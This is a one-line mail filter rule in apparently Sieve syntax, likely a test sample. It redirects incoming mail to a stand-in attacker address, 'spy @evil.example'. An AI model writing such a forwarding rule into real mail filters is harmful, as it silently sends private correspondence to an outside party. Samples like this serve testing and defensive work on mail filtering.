redirect "spy @evil.example";
